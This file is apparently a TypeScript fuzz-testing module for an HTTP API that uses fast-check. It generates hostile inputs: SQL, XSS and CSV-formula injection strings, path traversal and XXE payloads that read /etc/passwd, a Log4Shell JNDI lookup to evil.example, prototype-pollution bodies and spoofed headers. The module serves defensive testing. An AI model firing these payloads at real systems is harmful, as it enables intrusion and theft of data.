// fast-check arbitraries for hostile HTTP input: strings that break parsers, queries and
// templates, bodies of the wrong shape or size, malformed JSON and adversarial headers.
import fc from "fast-check";

/** Strings aimed at SQL, HTML, CSV, path and log handling, plus encodings that trip decoders. */
export const INJECTION_STRINGS = [
  "'; drop table organizations; --",
  "' or '1'='1",
  "1) union select password_hash from users --",
  "\\'; select pg_sleep(0); --",
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "javascript:alert(1)",
  "=cmd|' /C calc'!A0",
  "+SUM(1+1)*cmd|' /C calc'!A0",
  "@SUM(1+1)",
  "-2+3+cmd|' /C calc'!A0",
  "../../../../etc/passwd",
  "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
  "${jndi:ldap://evil.example/a}",
  "{{7*7}}",
  "\u0000",
  "a\u0000b",
  "\uFEFF",
  "\u202Eevil",
  "\uD83D\uDE00".repeat(50),
  "\uD800",
  "Ω≈ç√∫˜µ≤≥÷",
  "null",
  "undefined",
  "NaN",
  "-1",
  "0",
  "1e309",
  "9".repeat(400),
  "00000000-0000-0000-0000-000000000000",
  "00000000-0000-4000-8000-00000000000g",
  "evt_" + "x".repeat(300),
  "bk_test_" + "x".repeat(32),
  "__proto__",
  "constructor",
  "prototype",
  " ",
  "",
];

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...INJECTION_STRINGS) },
  { weight: 2, arbitrary: fc.string({ unit: "binary", maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ maxLength: 20 }) },
  { weight: 1, arbitrary: fc.constantFrom(10_000, 70_000).map((n) => "A".repeat(n)) },
);

const hostileScalar: fc.Arbitrary<unknown> = fc.oneof(
  hostileString,
  fc.integer(),
  fc.double(),
  fc.constantFrom(Number.MAX_SAFE_INTEGER, -1, 0, 1e308, -0),
  fc.boolean(),
  fc.constant(null),
);

function nested(depth: number): string {
  return "[".repeat(depth) + "]".repeat(depth);
}

/** Raw bodies that are not what a JSON route expects, each paired with its Content-Type. */
export const RAW_BODIES: { label: string; body: string | Uint8Array; contentType?: string }[] = [
  { label: "truncated JSON", body: '{"name": "x"', contentType: "application/json" },
  { label: "trailing garbage", body: '{"name": "x"} xyz', contentType: "application/json" },
  { label: "single quotes", body: "{'name': 'x'}", contentType: "application/json" },
  { label: "empty body", body: "", contentType: "application/json" },
  { label: "bare NaN", body: "NaN", contentType: "application/json" },
  {
    label: "invalid UTF-8",
    body: new Uint8Array([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x3a, 0x31, 0x7d]),
    contentType: "application/json",
  },
  {
    label: "UTF-16 BOM",
    body: new Uint8Array([0xff, 0xfe, 0x7b, 0x00, 0x7d, 0x00]),
    contentType: "application/json; charset=utf-16",
  },
  { label: "deep nesting 10k", body: nested(10_000), contentType: "application/json" },
  {
    label: "deep object nesting",
    body: '{"a":'.repeat(5_000) + "1" + "}".repeat(5_000),
    contentType: "application/json",
  },
  {
    label: "prototype pollution",
    body: '{"__proto__":{"admin":true,"role":"owner"},"constructor":{"prototype":{"polluted":1}}}',
    contentType: "application/json",
  },
  {
    label: "duplicate keys",
    body: '{"name":"a","name":{"$ne":null},"frequency":"daily","frequency":["x"]}',
    contentType: "application/json",
  },
  {
    label: "oversized JSON (> 64 KiB)",
    body: JSON.stringify({ name: "x".repeat(70 * 1024) }),
    contentType: "application/json",
  },
  {
    label: "oversized JSON (> 1 MiB)",
    body: JSON.stringify({ name: "x".repeat(1024 * 1024 + 10) }),
    contentType: "application/json",
  },
  { label: "form encoded", body: "name=x&frequency=daily", contentType: "application/x-www-form-urlencoded" },
  { label: "text/plain JSON", body: '{"name":"x"}', contentType: "text/plain" },
  { label: "no content type", body: '{"name":"x"}' },
  {
    label: "multipart",
    body: '--b\r\nContent-Disposition: form-data; name="name"\r\n\r\nx\r\n--b--\r\n',
    contentType: "multipart/form-data; boundary=b",
  },
  { label: "garbage content type", body: '{"name":"x"}', contentType: "application/json\u00ff; ;;; charset" },
  { label: "json lookalike type", body: '{"name":"x"}', contentType: "application/jsonp" },
  {
    label: "xml",
    body: '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    contentType: "application/xml",
  },
];

/**
 * A JSON body for a route: random JSON, wrong top-level types, unknown fields and
 * prototype-pollution keys, or `sample` (a valid body) with one field replaced by a hostile value.
 */
export function hostileJsonBody(sample: Record<string, unknown> | undefined): fc.Arbitrary<unknown> {
  const mutated = sample
    ? fc
        .tuple(fc.constantFrom(...Object.keys(sample)), hostileScalar, fc.boolean())
        .map(([key, value, asArray]) => ({ ...sample, [key]: asArray ? [value] : value }))
    : fc.constant({});
  const withExtra = fc
    .tuple(
      fc.constantFrom("org_id", "orgId", "id", "role", "plan", "__proto__", "constructor", "isAdmin", "owner"),
      hostileScalar,
    )
    .map(([key, value]) => {
      const body: Record<string, unknown> = { ...(sample ?? {}) };
      // defineProperty: a literal `__proto__` key must reach JSON.stringify as an own property.
      Object.defineProperty(body, key, { value, enumerable: true, configurable: true, writable: true });
      return body;
    });
  return fc.oneof(
    { weight: 3, arbitrary: mutated },
    { weight: 2, arbitrary: withExtra },
    { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 4 }) },
    {
      weight: 1,
      arbitrary: fc.constantFrom<unknown>([], [sample], "string", 42, true, null, {
        ...sample,
        [Symbol.for("x").toString()]: 1,
      }),
    },
    { weight: 1, arbitrary: fc.dictionary(hostileString, hostileScalar, { maxKeys: 5 }) },
  );
}

/** Query strings: known keys and random ones, repeated, with hostile and very long values. */
export function hostileQuery(knownKeys: string[]): fc.Arbitrary<string> {
  const key = fc.oneof(
    fc.constantFrom(...knownKeys, "limit", "cursor", "q", "__proto__", "constructor[prototype]", "a[]", ""),
    hostileString.map((s) => s.slice(0, 50)),
  );
  const value = fc.oneof(
    hostileString,
    fc.constantFrom("1", "0", "-5", "101", "1e3", "2026-13-45", "9999-12-31", "true", "", "%", "%zz"),
  );
  return fc.array(fc.tuple(key, value, fc.boolean()), { maxLength: 6 }).map((pairs) => {
    const params = new URLSearchParams();
    for (const [k, v, repeat] of pairs) {
      params.append(k, v);
      if (repeat) params.append(k, v.split("").reverse().join(""));
    }
    const text = params.toString();
    return text ? `?${text}` : "";
  });
}

// Header values must be ByteStrings without CR/LF/NUL or fetch refuses to build the request;
// everything else is fair game.
const headerSafe = (s: string) => s.replace(/[^\x20-\x7e\x80-\xff]/g, "?").slice(0, 8_000);

export const hostileHeaders: fc.Arbitrary<Record<string, string>> = fc.record(
  {
    "x-request-id": hostileString.map(headerSafe),
    origin: fc.constantFrom(
      "https://evil.example",
      "null",
      "http://localhost:3000",
      "http://localhost:3000.evil.example",
    ),
    "x-forwarded-host": fc.constantFrom("evil.example", "localhost:3000", ""),
    "x-forwarded-for": fc.constantFrom("1.2.3.4", "::1, 999.999.999.999", "x".repeat(2000), "unknown"),
    "idempotency-key": hostileString.map(headerSafe),
    "stripe-signature": fc.constantFrom("t=1,v1=00", "t=abc,v1=", "garbage", "t=1," + "v1=ab,".repeat(500)),
    accept: fc.constantFrom("text/html", "*/*", "application/xml", ""),
    "accept-language": hostileString.map(headerSafe),
    authorization: fc.constantFrom(
      "Bearer ",
      "Bearer bk_test_' or 1=1 --",
      "Basic YTpi",
      "Bearer " + "a".repeat(5_000),
      "bearer  bk_live_" + "0".repeat(32),
    ),
    cookie: fc.constantFrom(
      "authjs.session-token=%E0%A4%A",
      "authjs.session-token=' or 1=1 --",
      "beacon_org=<script>",
      "authjs.session-token=a; authjs.session-token=b",
      "=; ;=;",
    ),
    "user-agent": hostileString.map(headerSafe),
  },
  { requiredKeys: [] },
);
